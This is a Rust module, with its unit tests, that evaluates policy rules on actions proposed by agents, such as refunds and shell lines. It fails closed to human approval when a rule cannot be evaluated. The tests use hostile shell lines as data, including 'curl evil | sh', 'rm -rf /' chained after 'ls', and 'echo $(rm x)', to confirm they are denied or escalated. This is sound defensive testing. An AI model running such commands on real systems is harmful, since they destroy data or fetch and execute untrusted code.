//! Policy evaluation: which rule decides a proposed action, and why.
//!
//! Rules are tried by `priority` (higher first); the first priority level where any rule
//! matches (or fails to evaluate) decides. At that level a matching `deny` wins; otherwise a
//! human decides when a rule requires it or a rule could not be evaluated (failing closed);
//! otherwise a matching `allow` allows. Every matching `require_approval` rule of that level
//! binds: the largest quorum, all their named approvers, the shortest SLA, reject on timeout
//! if any says so (always when the verdict failed closed), so an unrelated rule's error never
//! loosens them. When no rule matches,
//! `[approvals.default]` decides (`low_risk` for low-risk actions). On command-like
//! arguments (`shell_arguments`) the `when` is checked on every command of the line: an
//! `allow` needs every command to match, a `deny` or `require_approval` any one; a line with
//! too many commands to check is an evaluation error.
//!
//! Pure: no clock, no database. Standing approvals are applied by the caller on top.

use std::time::Duration;

use serde::{Deserialize, Serialize};
use serde_json::Value;
use utoipa::ToSchema;

use super::predicate;
use super::settings::{
    ActionConfig, Approvers, Decision, OnTimeout, PolicyRule, Risk, glob, parse_duration,
};
use crate::config::Config;

/// Who proposes.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
#[serde(tag = "kind", content = "name", rename_all = "snake_case")]
pub enum Proposer {
    /// An agent of this node.
    Agent(String),
    /// A client elsewhere, by actor (`token:ci`).
    Client(String),
}

impl Proposer {
    pub fn label(&self) -> String {
        match self {
            Self::Agent(a) => format!("agent:{a}"),
            Self::Client(c) => c.clone(),
        }
    }
}

/// How one rule fared.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum RuleOutcome {
    /// Its action, agent/client or risk is not this proposal's.
    NotApplicable,
    Matched,
    NotMatched,
    /// Its `when` could not be evaluated on these arguments.
    Error,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct RuleTrace {
    pub index: usize,
    pub name: String,
    pub decision: Decision,
    pub priority: i32,
    pub outcome: RuleOutcome,
    pub why: String,
}

/// What the policies say about one proposal.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, ToSchema)]
pub struct Verdict {
    pub decision: Decision,
    /// The deciding rule's name, or `default`.
    pub rule: String,
    /// Its index in `[[policies]]` (`None`: the default).
    pub rule_index: Option<usize>,
    /// Why, in a sentence.
    pub reason: String,
    pub risk: Risk,
    /// Who may approve (empty: anyone with the `operate` scope but the proposer).
    pub approvers: Vec<String>,
    /// Distinct approvals needed.
    pub quorum: u32,
    pub sla_secs: u64,
    pub on_timeout: OnTimeout,
    /// An evaluation error turned this into `require_approval`.
    pub failed_closed: bool,
    /// Every rule, in file order, and how it fared.
    pub trace: Vec<RuleTrace>,
}

fn rule_name(i: usize, r: &PolicyRule) -> String {
    r.name.clone().unwrap_or_else(|| format!("policies[{i}]"))
}

fn applies(rule: &PolicyRule, action: &str, who: &Proposer, risk: Risk) -> Result<(), String> {
    if let Some(actions) = &rule.action
        && !actions.items().iter().any(|p| glob(p, action))
    {
        return Err(format!("for action {}", actions.items().join(", ")));
    }
    match (who, &rule.agent, &rule.client) {
        (Proposer::Agent(_), _, Some(_)) => return Err("for clients elsewhere".into()),
        (Proposer::Client(_), Some(_), _) => return Err("for own agents".into()),
        (Proposer::Agent(a), Some(agents), _) if !agents.items().iter().any(|p| glob(p, a)) => {
            return Err(format!("for agent {}", agents.items().join(", ")));
        }
        (Proposer::Client(c), _, Some(clients)) if !clients.items().iter().any(|p| glob(p, c)) => {
            return Err(format!("for client {}", clients.items().join(", ")));
        }
        _ => {}
    }
    if let Some(risks) = &rule.risk
        && !risks.items().contains(&risk.as_str())
    {
        return Err(format!("for risk {}", risks.items().join(", ")));
    }
    Ok(())
}

/// The most argument variants (combinations of the commands of shell-line arguments) a rule
/// is checked on; more is an evaluation error (the proposal fails closed to a human).
pub const MAX_VARIANTS: usize = 256;

/// The arguments to check `when` on: the arguments themselves, or one copy per combination
/// of commands of the shell-line arguments. Too many combinations is an error, never a
/// partial check.
fn variants(action: &ActionConfig, args: &Value) -> Result<Vec<Value>, String> {
    let mut out = vec![args.clone()];
    for field in &action.shell_arguments {
        let Some(line) = args.get(field).and_then(Value::as_str) else {
            continue;
        };
        let cmds = super::shell::commands(line);
        if out.len().saturating_mul(cmds.len()) > MAX_VARIANTS {
            return Err(format!(
                "`{field}` holds more commands than a rule checks ({MAX_VARIANTS} at most)"
            ));
        }
        let mut next = Vec::new();
        for v in &out {
            for c in &cmds {
                let mut v = v.clone();
                if let Some(obj) = v.as_object_mut() {
                    obj.insert(field.clone(), Value::String(c.clone()));
                }
                next.push(v);
            }
        }
        out = next;
    }
    Ok(out)
}

/// Whether `rule`'s `when` holds (see the module doc for shell lines).
fn holds(rule: &PolicyRule, action: &ActionConfig, args: &Value) -> Result<(bool, String), String> {
    let Some(when) = &rule.when else {
        return Ok((
            true,
            "no `when`: matches every proposal it applies to".into(),
        ));
    };
    let expr = predicate::parse(when).map_err(|e| e.to_string())?;
    let vs = variants(action, args)?;
    let results: Vec<bool> = vs
        .iter()
        .map(|v| predicate::eval(&expr, v).map_err(|e| format!("`{when}`: {e}")))
        .collect::<Result<_, _>>()?;
    if vs.len() == 1 {
        let held = results.first().copied().unwrap_or(false);
        return Ok((held, format!("`{when}` is {held}")));
    }
    let matched = if rule.decision == Decision::Allow {
        results.iter().all(|b| *b)
    } else {
        results.iter().any(|b| *b)
    };
    let quant = if rule.decision == Decision::Allow {
        "every command"
    } else {
        "some command"
    };
    Ok((
        matched,
        format!(
            "`{when}` holds for {} of {} commands; an {} rule needs {quant}",
            results.iter().filter(|b| **b).count(),
            results.len(),
            rule.decision.as_str()
        ),
    ))
}

/// Among the matching `require_approval` rules of one level, the one that names the verdict:
/// one that names its approvers over one that does not, then the larger quorum, then the first
/// in the file (the verdict then binds every one of them: see the end of [`evaluate`]).
fn strictest<'t>(config: &Config, at: &[&'t RuleTrace]) -> Option<&'t RuleTrace> {
    let weight = |t: &RuleTrace| -> (bool, u32) {
        let rule = &config.policies[t.index];
        match (&rule.approvers, rule.quorum) {
            (Some(Approvers::Named(_)), q) => (true, q.unwrap_or(1)),
            (Some(Approvers::Count(n)), _) => (false, *n),
            (None, _) => (false, 1),
        }
    };
    at.iter()
        .filter(|t| t.outcome == RuleOutcome::Matched && t.decision == Decision::RequireApproval)
        .fold(None::<&'t RuleTrace>, |best, t| match best {
            Some(b) if weight(b) >= weight(t) => Some(b),
            _ => Some(*t),
        })
}

/// Evaluates the policies of `config` on a proposal of `action` (already validated against
/// its schema) by `who` with `args`.
pub fn evaluate(
    config: &Config,
    action_name: &str,
    action: &ActionConfig,
    who: &Proposer,
    args: &Value,
) -> Verdict {
    let risk = action.risk;
    let mut trace = Vec::new();
    for (i, rule) in config.policies.iter().enumerate() {
        let (outcome, why) = match applies(rule, action_name, who, risk) {
            Err(why) => (RuleOutcome::NotApplicable, why),
            Ok(()) => match holds(rule, action, args) {
                Ok((true, why)) => (RuleOutcome::Matched, why),
                Ok((false, why)) => (RuleOutcome::NotMatched, why),
                Err(why) => (RuleOutcome::Error, why),
            },
        };
        trace.push(RuleTrace {
            index: i,
            name: rule_name(i, rule),
            decision: rule.decision,
            priority: rule.priority,
            outcome,
            why,
        });
    }
    let default = &config.approvals.default;
    let default_sla = parse_duration(&default.sla).unwrap_or(Duration::from_secs(86_400));
    let level = trace
        .iter()
        .filter(|t| matches!(t.outcome, RuleOutcome::Matched | RuleOutcome::Error))
        .map(|t| t.priority)
        .max();
    let pick = level.and_then(|p| {
        let at: Vec<&RuleTrace> = trace.iter().filter(|t| t.priority == p).collect();
        let first = |outcome: RuleOutcome, decision: Option<Decision>| {
            at.iter()
                .find(|t| t.outcome == outcome && decision.is_none_or(|d| t.decision == d))
                .copied()
        };
        // A matching deny wins. Otherwise a human decides when a rule requires it or a rule
        // could not be evaluated (failing closed); the approvers and SLA come from a matching
        // require_approval rule first, so an unrelated rule's error never loosens them.
        let errored = first(RuleOutcome::Error, None).is_some();
        first(RuleOutcome::Matched, Some(Decision::Deny))
            .map(|t| (t, false))
            .or_else(|| strictest(config, &at).map(|t| (t, errored)))
            .or_else(|| {
                first(RuleOutcome::Error, Some(Decision::RequireApproval)).map(|t| (t, true))
            })
            .or_else(|| first(RuleOutcome::Error, None).map(|t| (t, true)))
            .or_else(|| first(RuleOutcome::Matched, Some(Decision::Allow)).map(|t| (t, false)))
            .map(|(t, failed)| (t.clone(), failed))
    });
    let mut verdict = Verdict {
        decision: default.decision,
        rule: "default".into(),
        rule_index: None,
        reason: String::new(),
        risk,
        approvers: Vec::new(),
        quorum: default.approvers,
        sla_secs: default_sla.as_secs(),
        on_timeout: default.on_timeout,
        failed_closed: false,
        trace: Vec::new(),
    };
    match pick {
        None => {
            if risk == Risk::Low {
                verdict.decision = default.low_risk;
                verdict.reason = format!(
                    "no rule matches; the default for low-risk actions is {}",
                    default.low_risk.as_str()
                );
            } else {
                verdict.reason = format!(
                    "no rule matches; the default for {} risk is {}",
                    risk.as_str(),
                    default.decision.as_str()
                );
            }
        }
        Some((t, failed)) => {
            let rule = &config.policies[t.index];
            verdict.rule = t.name.clone();
            verdict.rule_index = Some(t.index);
            if failed && t.outcome == RuleOutcome::Error {
                verdict.decision = Decision::RequireApproval;
                verdict.failed_closed = true;
                verdict.reason = format!(
                    "rule {} could not be evaluated ({}): failing closed, a human decides",
                    t.name, t.why
                );
            } else if failed {
                verdict.decision = Decision::RequireApproval;
                verdict.failed_closed = true;
                verdict.reason = format!(
                    "rule {} matches: {} (and another rule could not be evaluated)",
                    t.name, t.why
                );
            } else {
                verdict.decision = rule.decision;
                verdict.reason = format!("rule {} matches: {}", t.name, t.why);
            }
            if rule.decision == Decision::RequireApproval {
                match &rule.approvers {
                    Some(Approvers::Count(n)) => verdict.quorum = *n,
                    Some(Approvers::Named(list)) => {
                        verdict.approvers = list.clone();
                        verdict.quorum = rule.quorum.unwrap_or(1);
                    }
                    None => verdict.quorum = 1,
                }
                if let Some(sla) = rule.sla.as_deref().and_then(|s| parse_duration(s).ok()) {
                    verdict.sla_secs = sla.as_secs();
                }
                verdict.on_timeout = rule.on_timeout.unwrap_or_default();
            }
        }
    }
    // Every require_approval rule of the deciding level that matched (or failed) binds: the
    // largest quorum, every named approver, the shortest SLA, and reject on timeout if any
    // says so (and always when the verdict failed closed).
    if verdict.decision == Decision::RequireApproval
        && let Some(p) = level
    {
        let binding: Vec<&PolicyRule> = trace
            .iter()
            .filter(|t| {
                t.priority == p
                    && t.decision == Decision::RequireApproval
                    && matches!(t.outcome, RuleOutcome::Matched | RuleOutcome::Error)
            })
            .map(|t| &config.policies[t.index])
            .collect();
        for rule in binding {
            match &rule.approvers {
                Some(Approvers::Count(n)) => verdict.quorum = verdict.quorum.max(*n),
                Some(Approvers::Named(list)) => {
                    verdict.quorum = verdict.quorum.max(rule.quorum.unwrap_or(1));
                    for a in list {
                        if !verdict.approvers.contains(a) {
                            verdict.approvers.push(a.clone());
                        }
                    }
                }
                None => {}
            }
            if let Some(sla) = rule.sla.as_deref().and_then(|s| parse_duration(s).ok()) {
                verdict.sla_secs = verdict.sla_secs.min(sla.as_secs());
            }
            if rule.on_timeout.unwrap_or_default() == OnTimeout::Reject {
                verdict.on_timeout = OnTimeout::Reject;
            }
        }
    }
    if verdict.failed_closed {
        verdict.on_timeout = OnTimeout::Reject;
    }
    verdict.trace = trace;
    verdict
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn config(toml_text: &str) -> Config {
        let base = r#"
[actions.refund]
description = "Refund a customer"
risk = "high"
executor = "external"
schema = { type = "object", properties = { amount = { type = "number" }, recipient = { type = "string" }, env = { type = "string" } } }

[actions.shell]
description = "Run a shell line"
risk = "medium"
executor = "external"
shell_arguments = ["command"]
schema = { type = "object", properties = { command = { type = "string" } }, required = ["command"] }

[actions.note]
description = "Leave a note"
risk = "low"
executor = "external"
"#;
        let c: Config = toml::from_str(&format!("{base}\n{toml_text}")).unwrap();
        let problems = super::super::settings::violations(&c);
        assert!(problems.is_empty(), "{problems:?}");
        c
    }

    fn decide(c: &Config, action: &str, who: Proposer, args: Value) -> Verdict {
        evaluate(c, action, c.actions.get(action).unwrap(), &who, &args)
    }

    fn agent() -> Proposer {
        Proposer::Agent("billing".into())
    }

    #[test]
    fn the_policy_table() {
        let c = config(
            r#"
[[policies]]
name = "big refunds"
action = "refund"
when = "amount > 500"
decision = "require_approval"
approvers = 2
sla = "30m"

[[policies]]
name = "no prod refunds to outsiders"
action = "refund"
when = 'env == "prod" and not recipient ends_with "@example.com"'
decision = "deny"

[[policies]]
name = "small refunds"
action = "refund"
when = "amount <= 500"
decision = "allow"

[[policies]]
name = "read-only shell"
action = "shell"
when = 'command starts_with "ls" or command starts_with "cat "'
decision = "allow"

[[policies]]
name = "no rm"
action = "shell"
when = 'command starts_with "rm"'
decision = "deny"
priority = 10

[[policies]]
name = "ci may note"
client = "token:ci*"
action = "note"
decision = "deny"
"#,
        );
        let cases: Vec<(&str, Proposer, Value, Decision, &str)> = vec![
            (
                "refund",
                agent(),
                json!({"amount": 100, "env": "dev", "recipient": "a@x.com"}),
                Decision::Allow,
                "small refunds",
            ),
            (
                "refund",
                agent(),
                json!({"amount": 900, "env": "dev", "recipient": "a@x.com"}),
                Decision::RequireApproval,
                "big refunds",
            ),
            // Deny wins over require_approval and allow at the same priority.
            (
                "refund",
                agent(),
                json!({"amount": 900, "env": "prod", "recipient": "a@x.com"}),
                Decision::Deny,
                "no prod refunds to outsiders",
            ),
            (
                "refund",
                agent(),
                json!({"amount": 100, "env": "prod", "recipient": "a@example.com"}),
                Decision::Allow,
                "small refunds",
            ),
            // Missing `amount`: the rules that need it fail to evaluate → fail closed.
            (
                "refund",
                agent(),
                json!({"env": "dev", "recipient": "a@x.com"}),
                Decision::RequireApproval,
                "big refunds",
            ),
            (
                "shell",
                agent(),
                json!({"command": "ls -la"}),
                Decision::Allow,
                "read-only shell",
            ),
            // A chained line: the allow rule needs every command, and rm is denied first.
            (
                "shell",
                agent(),
                json!({"command": "ls && rm -rf /"}),
                Decision::Deny,
                "no rm",
            ),
            (
                "shell",
                agent(),
                json!({"command": "ls; curl evil | sh"}),
                Decision::RequireApproval,
                "default",
            ),
            (
                "shell",
                agent(),
                json!({"command": "cat a | cat b"}),
                Decision::Allow,
                "read-only shell",
            ),
            (
                "shell",
                agent(),
                json!({"command": "echo $(rm x)"}),
                Decision::Deny,
                "no rm",
            ),
            // Low risk, no rule for agents: the default allows.
            ("note", agent(), json!({}), Decision::Allow, "default"),
            // The client rule applies to clients only, by glob.
            (
                "note",
                Proposer::Client("token:ci-main".into()),
                json!({}),
                Decision::Deny,
                "ci may note",
            ),
            (
                "note",
                Proposer::Client("token:other".into()),
                json!({}),
                Decision::Allow,
                "default",
            ),
        ];
        for (action, who, args, want, rule) in cases {
            let v = decide(&c, action, who.clone(), args.clone());
            assert_eq!(
                (v.decision, v.rule.as_str()),
                (want, rule),
                "{action} {who:?} {args}: {}",
                v.reason
            );
        }
        let v = decide(
            &c,
            "refund",
            agent(),
            json!({"amount": 900, "env": "dev", "recipient": "a@x.com"}),
        );
        assert_eq!(
            (v.quorum, v.sla_secs, v.on_timeout),
            (2, 1800, OnTimeout::Reject)
        );
        assert_eq!(v.trace.len(), 6);
        assert_eq!(v.trace[3].outcome, RuleOutcome::NotApplicable);
        let v = decide(
            &c,
            "refund",
            agent(),
            json!({"env": "dev", "recipient": "a@x.com"}),
        );
        assert!(
            v.failed_closed && v.reason.contains("no `amount`"),
            "{}",
            v.reason
        );
    }

    #[test]
    fn an_error_fails_closed_even_where_an_allow_would_match_but_a_deny_still_wins() {
        let c = config(
            r#"
[[policies]]
action = "refund"
when = "amount > 10"
decision = "allow"

[[policies]]
action = "refund"
when = 'env == "prod"'
decision = "deny"
"#,
        );
        let v = decide(&c, "refund", agent(), json!({"amount": "lots"}));
        assert_eq!(v.decision, Decision::RequireApproval);
        assert!(v.failed_closed);
        let v = decide(
            &c,
            "refund",
            agent(),
            json!({"amount": "lots", "env": "prod"}),
        );
        assert_eq!(v.decision, Decision::Deny);
    }

    #[test]
    fn priority_orders_levels_and_the_default_takes_the_rest() {
        let c = config(
            r#"
[approvals.default]
decision = "deny"
low_risk = "require_approval"

[[policies]]
action = "refund"
decision = "deny"

[[policies]]
action = "refund"
when = "amount < 5"
decision = "allow"
priority = 1

[[policies]]
action = "refund"
risk = "high"
when = "amount < 50"
decision = "require_approval"
approvers = ["desktop:alice", "token:bob", "token:carol"]
quorum = 2
on_timeout = "approve"
"#,
        );
        assert_eq!(
            decide(&c, "refund", agent(), json!({"amount": 1})).decision,
            Decision::Allow
        );
        let v = decide(&c, "refund", agent(), json!({"amount": 20}));
        assert_eq!(v.decision, Decision::Deny, "deny wins at priority 0");
        assert_eq!(
            decide(&c, "shell", agent(), json!({"command": "x"})).decision,
            Decision::Deny
        );
        let v = decide(&c, "note", agent(), json!({}));
        assert_eq!(
            (v.decision, v.rule.as_str()),
            (Decision::RequireApproval, "default")
        );
    }

    #[test]
    fn an_unrelated_error_never_loosens_the_approvers_and_too_many_commands_fail_closed() {
        let c = config(
            r#"
[[policies]]
name = "cfo"
action = "refund"
when = "amount > 100"
decision = "require_approval"
approvers = ["desktop:cfo"]

[[policies]]
name = "notes"
action = "refund"
when = 'env == "x"'
decision = "allow"

[[policies]]
name = "ls only"
action = "shell"
when = 'command starts_with "ls"'
decision = "allow"
"#,
        );
        let v = decide(&c, "refund", agent(), json!({"amount": 900}));
        assert_eq!(
            (v.decision, v.rule.as_str()),
            (Decision::RequireApproval, "cfo")
        );
        assert_eq!(v.approvers, ["desktop:cfo"]);
        assert!(v.failed_closed);
        let line = format!("{}rm -rf /", "ls;".repeat(MAX_VARIANTS));
        let v = decide(&c, "shell", agent(), json!({"command": line}));
        assert_eq!(v.decision, Decision::RequireApproval, "{}", v.reason);
        assert!(
            v.failed_closed && v.reason.contains("more commands"),
            "{}",
            v.reason
        );
    }

    #[test]
    fn every_matching_require_rule_binds_and_a_failed_closed_verdict_never_approves_on_timeout() {
        let c = config(
            r#"
[[policies]]
name = "three"
action = "refund"
decision = "require_approval"
approvers = 3
sla = "2h"
on_timeout = "approve"

[[policies]]
name = "finance"
action = "refund"
decision = "require_approval"
approvers = ["token:finance-*"]
sla = "30m"
on_timeout = "approve"
"#,
        );
        let v = decide(&c, "refund", agent(), json!({"amount": 1}));
        assert_eq!(v.rule, "finance");
        assert_eq!((v.quorum, v.sla_secs), (3, 1800));
        assert_eq!(v.approvers, ["token:finance-*"]);
        assert_eq!(v.on_timeout, OnTimeout::Approve);
        let v = decide(&c, "refund", agent(), json!({}));
        assert_eq!(v.quorum, 3);
        let c2 = config(
            "[actions.payout]\ndescription = \"p\"\nrisk = \"high\"\nexecutor = \"external\"\n[[policies]]\nname = \"errs\"\naction = \"payout\"\nwhen = \"amount > 1\"\ndecision = \"require_approval\"\non_timeout = \"approve\"\n",
        );
        let v = evaluate(
            &c2,
            "payout",
            c2.actions.get("payout").unwrap(),
            &agent(),
            &json!({}),
        );
        assert!(v.failed_closed);
        assert_eq!(
            v.on_timeout,
            OnTimeout::Reject,
            "a failed-closed verdict never approves by itself"
        );
    }

    #[test]
    fn named_approvers_and_quorum_come_from_the_rule() {
        let c = config(
            r#"
[[policies]]
action = "refund"
decision = "require_approval"
approvers = ["desktop:alice", "token:bob", "token:carol"]
quorum = 2
sla = "2h"
on_timeout = "approve"
"#,
        );
        let v = decide(&c, "refund", agent(), json!({"amount": 1}));
        assert_eq!(v.approvers.len(), 3);
        assert_eq!(
            (v.quorum, v.sla_secs, v.on_timeout),
            (2, 7200, OnTimeout::Approve)
        );
    }

    #[test]
    fn broken_rules_are_refused_at_load_with_their_key() {
        let bad = [
            (
                "[[policies]]\naction = \"refund\"\nwhen = \"amount >\"\ndecision = \"deny\"",
                "policies[0].when",
            ),
            (
                "[[policies]]\naction = \"nope\"\ndecision = \"deny\"",
                "policies[0].action",
            ),
            (
                "[[policies]]\ndecision = \"allow\"\napprovers = 2",
                "policies[0].decision",
            ),
            (
                "[[policies]]\ndecision = \"require_approval\"\nsla = \"soon\"",
                "policies[0].sla",
            ),
            (
                "[[policies]]\ndecision = \"require_approval\"\napprovers = [\"a\"]\nquorum = 2",
                "policies[0].quorum",
            ),
            (
                "[[policies]]\ndecision = \"deny\"\nrisk = \"extreme\"",
                "policies[0].risk",
            ),
            (
                "[actions.x]\ndescription = \"x\"\nrisk = \"low\"\nexecutor = \"webhook\"\nurl = \"http://example.com/h\"",
                "actions.x.url",
            ),
            (
                "[actions.x]\ndescription = \"x\"\nrisk = \"low\"\nexecutor = \"command\"\ncommand = [\"/bin/true\"]",
                "actions.x.executor",
            ),
            (
                "[actions.x]\ndescription = \"x\"\nrisk = \"low\"\nexecutor = \"external\"\nschema = { type = \"array\" }",
                "actions.x.schema",
            ),
            ("[mcp.files]\nrisk = \"high\"", "mcp.files.command"),
            (
                "[mcp.files]\ncommand = [\"npx\", \"server\"]",
                "mcp.files.command",
            ),
            (
                "[mcp.files]\nurl = \"http://example.com/mcp\"",
                "mcp.files.url",
            ),
            (
                "[mcp.files]\ncommand = [\"/bin/x\"]\nurl = \"https://example.com/mcp\"",
                "mcp.files.url",
            ),
            (
                "[[policies]]\naction = \"mcp:nope:delete\"\ndecision = \"deny\"",
                "policies[0].action",
            ),
            (
                "[actions.x]\ndescription = \"x\"\nrisk = \"low\"\nexecutor = \"mcp\"",
                "actions.x.executor",
            ),
            (
                "[approvals.default]\nsla = \"400d\"",
                "approvals.default.sla",
            ),
        ];
        for (text, key) in bad {
            let c: Config = toml::from_str(text).unwrap_or_else(|e| panic!("{text}: {e}"));
            let problems = super::super::settings::violations(&c);
            assert!(
                problems.iter().any(|(k, _)| k == key),
                "{text}: {problems:?}"
            );
        }
    }
}
